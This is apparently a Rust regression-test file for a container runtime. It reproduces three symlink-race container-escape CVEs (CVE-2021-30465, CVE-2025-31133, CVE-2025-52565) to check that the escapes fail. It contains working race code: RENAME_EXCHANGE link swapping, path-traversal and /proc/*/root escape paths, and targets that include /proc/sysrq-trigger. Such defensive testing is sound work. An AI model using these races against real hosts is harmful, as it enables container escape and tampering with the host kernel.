//! A volume that a neighbour shares, whose names are links at times: to canaries of
//! the host, or to knobs of the kernel.

use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use anyhow::Result;
use integration::{ContainerSpec, Node, PodSpec};
use nix::dir::Dir;
use nix::errno::Errno;
use nix::fcntl::OFlag;
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use nix::unistd::{UnlinkatFlags, unlinkat};
use serde_json::{Value, json};

use crate::bare::{Bare, bind, mounts};
use crate::host::KNOB;
use crate::round::{Neighbour, Round, arm, attempts};

/// Turns the link among two swapped names to another way out. The neighbour swaps
/// meanwhile, so that it may take several tries.
fn turn(volume: &Path, [one, other]: [&str; 2], way: &Path) -> Result<()> {
    let aside = volume.join("aside");
    loop {
        let names = [volume.join(one), volume.join(other)];
        let is_link = |path: &&PathBuf| fs::symlink_metadata(path).is_ok_and(|m| m.is_symlink());
        let Some(link) = names.iter().find(is_link) else {
            continue;
        };
        // Only a link is removed by this: what else is there is not empty, or busy.
        symlink(way, &aside)?;
        let flags = nix::fcntl::RenameFlags::RENAME_EXCHANGE;
        nix::fcntl::renameat2(None, &aside, None, link, flags)?;
        let taken = fs::symlink_metadata(&aside)?.is_symlink();
        if taken {
            fs::remove_file(&aside)?;
            return Ok(());
        }
        // Swapped in between: back again.
        nix::fcntl::renameat2(None, &aside, None, link, flags)?;
        fs::remove_file(&aside).ok();
    }
}

fn ways_out(to: &Path) -> Vec<PathBuf> {
    let plain = to.strip_prefix("/").unwrap_or(to);
    vec![
        to.to_owned(),
        Path::new("../../../../../../../../../../..").join(plain),
        Path::new("/proc/self/root").join(plain),
        Path::new("/proc/1/root").join(plain),
    ]
}

/// Removes what an attempt made in the directory among two swapped names; never by a
/// path, which may lead out by now.
fn clear(volume: &Path, names: [&str; 2]) -> Result<()> {
    let flags = OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
    let open = |name: &&str| Dir::open(&volume.join(name), flags, Mode::empty()).ok();
    let dir = loop {
        if let Some(dir) = names.iter().find_map(open) {
            break dir;
        }
    };
    let at = Some(dir.as_raw_fd());
    for (name, kind) in [
        ("src", UnlinkatFlags::RemoveDir),
        ("0", UnlinkatFlags::NoRemoveDir),
    ] {
        match unlinkat(at, name, kind) {
            Ok(()) | Err(Errno::ENOENT) => {}
            Err(e) => return Err(e.into()),
        }
    }
    Ok(())
}

/// CVE-2021-30465: a volume lands in a directory of another volume, which is a link
/// out of the container at times.
#[test]
fn a_mount_target_swapped_for_a_link() -> Result<()> {
    let node = Node::start()?;
    let attack = arm(&node)?;
    let mut round = Round::new(&node, &PodSpec::new("escapes", "target"), &[])?;
    let (volume, theirs) = (node.dir().join("volume"), node.dir().join("theirs"));
    fs::create_dir_all(volume.join("a"))?;
    fs::create_dir_all(&theirs)?;
    fs::write(theirs.join("legit"), "")?;
    symlink(&round.host.canary, volume.join("b"))?;
    let names = ["a", "b"];
    let neighbour = Neighbour::swapping(&round.pod, &attack, &volume, names)?;
    let script = "[ -e /vol/a/src/legit ] || [ -e /vol/b/src/legit ] && echo legit; \
        cat /vol/*/secret /vol/*/src/secret; for f in /vol/a /vol/b; do echo x >> $f/0; done; true";
    let spec = ContainerSpec::shell(script)
        .mount(&volume.display().to_string(), "/vol", false)
        .mount(&theirs.display().to_string(), "/vol/a/src", false);
    let ways = ways_out(&round.host.canary);
    for n in 0..attempts() as usize {
        turn(&volume, names, &ways[n % ways.len()])?;
        round.raced(&[&neighbour], |round| round.container(&spec))?;
        clear(&volume, names)?;
    }
    round.close(true, &["legit"])
}

/// A volume for `/dev`, with what the runtime needs in it.
fn dev(node: &Node) -> Result<PathBuf> {
    let dev = node.dir().join("dev");
    for name in ["pts", "shm", "mqueue"] {
        fs::create_dir_all(dev.join(name))?;
    }
    let mode = Mode::from_bits_truncate(0o666);
    mknod(&dev.join("null"), SFlag::S_IFCHR, mode, makedev(1, 3))?;
    fs::set_permissions(
        dev.join("null"),
        std::os::unix::fs::PermissionsExt::from_mode(0o666),
    )?;
    Ok(dev)
}

/// CVE-2025-31133: masks are made of `/dev/null`, which is a link to a knob, or to a
/// canary, at times. What is masked must stay empty and take no writes; neither may an
/// exec read it.
#[test]
fn masks_hold_while_dev_null_is_swapped() -> Result<()> {
    let node = Node::start()?;
    let attack = arm(&node)?;
    let mut round = Round::new(&node, &PodSpec::new("escapes", "masks"), &[])?;
    let dev = dev(&node)?;
    symlink(KNOB, dev.join("null.link"))?;
    let names = ["null", "null.link"];
    let neighbour = Neighbour::swapping(&round.pod, &attack, &dev, names)?;
    let look = "for f in /proc/version /proc/cpuinfo; do echo 77 > $f; \
        [ -n \"$(cat $f)\" ] && echo BREACH $f; done; [ -c /proc/version ] && echo masked; true";
    let mut spec = ContainerSpec::shell(&format!("{look}; sleep 100")).mount(
        &dev.display().to_string(),
        "/dev",
        false,
    );
    let linux = spec.config.linux.as_mut().unwrap();
    let masked = &mut linux.security_context.as_mut().unwrap().masked_paths;
    masked.extend(["/proc/version", "/proc/cpuinfo"].map(str::to_owned));
    let mut ways = vec![
        PathBuf::from(KNOB),
        PathBuf::from("/proc/self/root/proc/sysrq-trigger"),
        PathBuf::from("gone"),
    ];
    ways.extend(ways_out(&round.host.canary.join("0")));
    for n in 0..attempts() as usize {
        turn(&dev, names, &ways[n % ways.len()])?;
        round.raced(&[&neighbour], |round| round.looked_into(&spec, look))?;
    }
    round.close(true, &["ran: masked", "/dev/null"])
}

/// CVE-2025-52565: `/dev/console` of a terminal, and `/dev/pts`, are links at times.
#[test]
fn a_console_swapped_for_a_link() -> Result<()> {
    let node = Node::start()?;
    let attack = arm(&node)?;
    let mut round = Round::new(&node, &PodSpec::new("escapes", "console"), &[])?;
    let dev = dev(&node)?;
    fs::write(dev.join("console"), "")?;
    symlink(KNOB, dev.join("console.link"))?;
    let names = ["console", "console.link"];
    let neighbour = Neighbour::swapping(&round.pod, &attack, &dev, names)?;
    let script = "stty -icanon min 0 time 0; for f in /dev/console /dev/pts/0 /dev/ptmx; do \
        [ -c $f ] || { echo no device at $f; echo 77 >> $f; cat $f; }; done; tty";
    let bare = Bare::new(&node)?;
    let mut ways = ways_out(&round.host.canary.join("0"));
    ways.extend(ways_out(Path::new(KNOB)));
    let pts = ["pts", "pts.link"];
    symlink(&round.host.canary, dev.join("pts.link"))?;
    let mut of_pts = None;
    let tries = attempts() as usize;
    for n in 0..tries {
        // With both, few get far.
        if n == tries / 2 {
            of_pts = Some(Neighbour::swapping(&round.pod, &attack, &dev, pts)?);
        }
        turn(&dev, names, &ways[n % ways.len()])?;
        let mut all = vec![&neighbour];
        all.extend(&of_pts);
        let id = format!("console-{n}");
        let mut spec = bare.spec(&id, script);
        spec["process"]["terminal"] = json!(true);
        let mut in_dev = mounts(&mut spec).iter_mut();
        let is_dev = |mount: &&mut Value| mount["destination"] == "/dev";
        *in_dev.find(is_dev).unwrap() = bind(&dev, "/dev");
        round.raced(&all, |_| bare.run(&id, &spec, |_image| Ok(())))?;
    }
    round.close(true, &["/dev/pts/0"])
}
